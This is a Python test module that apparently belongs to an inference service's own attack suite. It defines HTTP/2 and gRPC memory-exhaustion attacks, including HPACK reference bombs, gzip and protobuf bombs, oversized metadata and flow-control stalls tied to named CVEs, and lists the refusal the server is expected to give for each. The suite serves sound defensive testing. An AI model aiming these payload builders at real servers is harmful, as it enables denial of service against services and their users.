"""Attacks on memory: few bytes that become many, and bytes that the server must hold."""

import gzip
import struct
from typing import Final

from inference.grpc_service_pb2 import ModelInferRequest
from ondeck.v1.instances_pb2 import BattedBallColumns
from ondeck.v1.prediction_service_pb2 import BatchPredictRequest
from tests.attack.attack import Attack, Round, Run, handled, refused, send_all
from tests.attack.frames import (
    END_HEADERS,
    INITIAL_WINDOW_SIZE,
    PREFACE,
    TIMEOUT,
    Answer,
    FrameType,
    call,
    data,
    frame,
    header_block,
    headers,
    literal,
    reset,
    settings,
    window_update,
)
from tests.conformance.http2_client import frame_message
from tests.conformance.stock_client import BATCH_PREDICT, PREDICT, SPEC, STREAM_PREDICT

INFER: Final = "/inference.GRPCInferenceService/ModelInfer"
STREAM_INFER: Final = "/inference.GRPCInferenceService/ModelStreamInfer"
CALM: Final = "GOAWAY ENHANCE_YOUR_CALM"
EXHAUSTED: Final = "RESOURCE_EXHAUSTED"
MEBIBYTE: Final = 1 << 20
_GZIP: Final = (("grpc-encoding", "gzip"),)
_READ_SECONDS: Final = 3.0
_FRAME: Final = 1 << 14
_STREAMS: Final = 100
_LARGE: Final = window_update(0, 1 << 30)


def batch(rows: int) -> bytes:
    """Return a request for rows."""
    columns = BattedBallColumns(launch_speed=[100.0] * rows, launch_angle=[20.0] * rows)
    return BatchPredictRequest(model=SPEC, batted_balls=columns).SerializeToString()


def body(stream: int, message: bytes, *, end: bool = True) -> bytes:
    """Return the DATA frames of bytes of any length."""
    parts = [message[at : at + _FRAME] for at in range(0, len(message), _FRAME)] or [b""]
    return b"".join(data(stream, each, end=end and each is parts[-1]) for each in parts)


def header_bomb(references: int) -> Run:
    """Return a run whose requests name one long field of the dynamic table again and again."""
    first = header_block(PREDICT) + literal("x-long", "y" * 3900, index=True)
    rest = header_block(PREDICT) + b"\xbe" * references  # index 62: the newest entry

    def run(round_: Round) -> Answer:
        connection = round_.connect()
        connection.send(frame(FrameType.HEADERS, END_HEADERS, 1, first) + reset(1))
        parts = (
            b"".join(frame(FrameType.HEADERS, END_HEADERS | 1, stream, rest) for stream in range(at, at + 40, 2))
            for at in range(3, 4003, 40)
        )
        send_all(connection, round_, parts)
        return connection.read(_READ_SECONDS)

    return run


def long_headers(round_: Round) -> Answer:
    """Send header lists of 128 KiB, in CONTINUATION frames."""
    connection = round_.connect()
    connection.send(frame(FrameType.HEADERS, 0, 1, header_block(PREDICT)))
    fields = b"".join(literal("x-long", "y" * 2000) for _ in range(8))
    connection.send(b"".join(frame(FrameType.CONTINUATION, 0, 1, fields) for _ in range(8)))
    return connection.read(_READ_SECONDS)


def binary_metadata(round_: Round) -> Answer:
    """Send binary metadata with wrong padding, a little and too much."""
    connection = round_.connect()
    little = [("x-bin", "A" * 101 + "="), ("y-bin", "====")]
    connection.send(call(1, PREDICT, b"", little) + call(3, PREDICT, b"", [("x-bin", "QUFB" * 60 + "==")] * 60))
    return connection.read(_READ_SECONDS, until=2)


def one_call(path: str, message: bytes, extra: "tuple[tuple[str, str], ...]" = (), times: int = 1) -> Run:
    """Return a run that makes the same call a number of times at once."""

    def run(round_: Round) -> Answer:
        connection = round_.connect()
        connection.send(_LARGE)
        connection.read(1, until=1)
        framed = frame_message(gzip.compress(message), compressed=True) if extra is _GZIP else frame_message(message)
        for stream in range(1, 2 * times, 2):
            connection.send(headers(stream, path, extra))
            connection.upload(stream, framed, max(round_.left, _READ_SECONDS))
        return connection.read(max(round_.left, _READ_SECONDS), until=times)

    return run


def gzip_bomb(path: str, streams: int, messages: int) -> Run:
    """Return a run of many compressed messages of 16 MiB of zeros on many streams."""
    packed = frame_message(gzip.compress(bytes(16 * MEBIBYTE - 64)), compressed=True)

    def run(round_: Round) -> Answer:
        connection = round_.connect()
        connection.read(1.0, is_once=True)
        for stream in range(1, 2 * streams, 2):
            if connection.answer.is_over or not round_.left:
                break
            connection.send(headers(stream, path, _GZIP))
            connection.upload(stream, packed * messages, min(round_.left, 1.0))
        return connection.read(_READ_SECONDS, until=2 * streams)

    return run


def infer_bomb(compressed: bool) -> Run:  # noqa: FBT001  a table entry
    """Return a run of one request that contains 8 million empty submessages."""
    message = ModelInferRequest(model_name="batted_ball").SerializeToString() + b"\x2a\x00" * 8_000_000
    return one_call(INFER, message, _GZIP if compressed else ())


def unread(path: str, message: bytes, *, window: int, streams: int) -> Run:
    """Return a run of calls whose answers are not read; `window` is that of each stream."""

    def run(round_: Round) -> Answer:
        preface = PREFACE + settings({INITIAL_WINDOW_SIZE: window}) + _LARGE
        connection = round_.connect(preface=preface, receive_buffer=4096)
        connection.read(0.2)
        for stream in range(1, 2 * streams, 2):
            seconds = TIMEOUT if stream == 1 else min(round_.left, 1.0)
            connection.send(headers(stream, path), 1.0)
            connection.upload(stream, frame_message(message), seconds)
        round_.wait()
        return connection.read(0.5)

    return run


def unfinished(path: str, announced: int, sent: int) -> Run:
    """Return a run that begins a message on many streams and ends none."""

    def run(round_: Round) -> Answer:
        connection = round_.connect()
        connection.read(0.2)
        content = struct.pack(">BI", 0, announced) + bytes(sent)
        for stream in range(1, 2 * _STREAMS, 2):
            connection.send(headers(stream, path))
            connection.upload(stream, content, round_.left, end=False)
        return connection.read(min(round_.left, _READ_SECONDS))

    return run


def _echo() -> bytes:
    request = ModelInferRequest(model_name="batted_ball", id="i" * (4 * MEBIBYTE))
    request.inputs.add(name="features", datatype="FP32", shape=[1, 1])
    return request.SerializeToString()


MEMORY_ATTACKS: Final = (
    Attack(
        name="HPACK references, 1 MB a list",
        kind="HPACK bomb",
        run=header_bomb(250),
        answers=(CALM, "RESOURCE_EXHAUSTED"),
        counters=refused("flood", "header_list_too_large"),
        grpcio="refuses it, but the neighbour may wait longer",
    ),
    Attack(
        name="HPACK references, 50 KB a list",
        kind="CVE-2023-33953",
        run=header_bomb(13),
        answers=(EXHAUSTED, CALM),
        counters=refused("metadata_too_large"),
        grpcio="refuses it, but the neighbour may wait longer",
    ),
    Attack(
        name="header list of 128 KiB",
        kind="metadata bomb",
        run=long_headers,
        answers=(CALM,),
        counters=refused("flood"),
    ),
    Attack(
        name="binary metadata with wrong padding",
        kind="metadata bomb",
        run=binary_metadata,
        answers=(EXHAUSTED, "INVALID_ARGUMENT"),
        counters=refused("metadata_too_large"),
    ),
    Attack(
        name="message of 1 GiB, announced only",
        kind="announced size",
        run=unfinished(PREDICT, 1 << 30, 1),
        answers=(EXHAUSTED, "RST_STREAM NO_ERROR"),
        counters=handled(EXHAUSTED),
    ),
    Attack(
        name="gzip, one call at a time",
        kind="compression bomb",
        can_be_silent=True,
        run=gzip_bomb(PREDICT, _STREAMS, 1),
        answers=(EXHAUSTED, "RST_STREAM NO_ERROR", "INVALID_ARGUMENT"),
        counters=handled(EXHAUSTED),
        grpcio="inflates messages as they arrive",
    ),
    Attack(
        name="gzip, 200 messages in a stream",
        kind="compression bomb",
        can_be_silent=True,
        run=gzip_bomb(STREAM_PREDICT, 1, 200),
        answers=(EXHAUSTED, "INVALID_ARGUMENT", "RST_STREAM NO_ERROR", CALM),
        counters=handled(EXHAUSTED, "INVALID_ARGUMENT"),
        grpcio="inflates messages as they arrive",
    ),
    Attack(
        name="gzip, streams of open inference",
        kind="compression bomb",
        can_be_silent=True,
        run=gzip_bomb(STREAM_INFER, 20, 20),
        answers=(EXHAUSTED, "INVALID_ARGUMENT", "RST_STREAM NO_ERROR", CALM),
        counters=handled(EXHAUSTED, "INVALID_ARGUMENT"),
        grpcio="inflates messages as they arrive",
    ),
    Attack(
        name="8 million empty submessages",
        kind="protobuf bomb",
        run=infer_bomb(False),  # noqa: FBT003  a table entry
        answers=(EXHAUSTED, "INVALID_ARGUMENT"),
        counters=handled(EXHAUSTED, "INVALID_ARGUMENT"),
        grpcio="refuses it, but the neighbour may wait longer",
    ),
    Attack(
        name="8 million empty submessages, gzip",
        kind="protobuf bomb",
        run=infer_bomb(True),  # noqa: FBT003  a table entry
        answers=(EXHAUSTED, "INVALID_ARGUMENT"),
        counters=handled(EXHAUSTED, "INVALID_ARGUMENT"),
        grpcio="refuses it, but the neighbour may wait longer",
    ),
    Attack(
        name="large answers, window of 1 byte",
        can_be_silent=True,
        kind="CVE-2019-9511",
        run=unread(BATCH_PREDICT, batch(1000), window=1, streams=50),
        answers=(EXHAUSTED, CALM),
        counters=handled(EXHAUSTED, "CANCELLED"),
    ),
    Attack(
        name="large answers, window of 0",
        can_be_silent=True,
        kind="CVE-2019-9517",
        run=unread(BATCH_PREDICT, batch(1000), window=0, streams=50),
        answers=(EXHAUSTED, CALM),
        counters=handled(EXHAUSTED, "CANCELLED"),
    ),
    Attack(
        name="large answers, socket not read",
        can_be_silent=True,
        kind="CVE-2019-9517",
        run=unread(BATCH_PREDICT, batch(1000), window=1 << 30, streams=50),
        answers=("OK", EXHAUSTED, CALM),  # the buffers of the sockets take some answers whole
        counters=('grpc_method="BatchPredict"',),
    ),
    Attack(
        name="unfinished messages on 100 streams",
        can_be_silent=True,
        kind="request memory",
        run=unfinished(BATCH_PREDICT, 15 * MEBIBYTE, 14 * MEBIBYTE),
        answers=(EXHAUSTED, CALM, "RST_STREAM NO_ERROR"),
        counters=handled(EXHAUSTED, "CANCELLED"),
    ),
    Attack(
        name="request ids of 4 MiB",
        kind="echo",
        run=unread(INFER, _echo(), window=0, streams=50),
        answers=(EXHAUSTED, "INVALID_ARGUMENT", CALM),
        counters=handled(EXHAUSTED, "INVALID_ARGUMENT"),
        grpcio="refuses it, but the neighbour may wait longer",
    ),
    Attack(
        name="two calls of 380,000 rows",
        can_be_silent=True,
        kind="bulk",
        run=one_call(BATCH_PREDICT, batch(380_000), _GZIP, times=2),
        answers=("OK", EXHAUSTED, "INVALID_ARGUMENT", "DEADLINE_EXCEEDED"),
        counters=handled("OK", EXHAUSTED, "INVALID_ARGUMENT", "CANCELLED"),
        grpcio="refuses it, but the neighbour may wait longer",
    ),
)
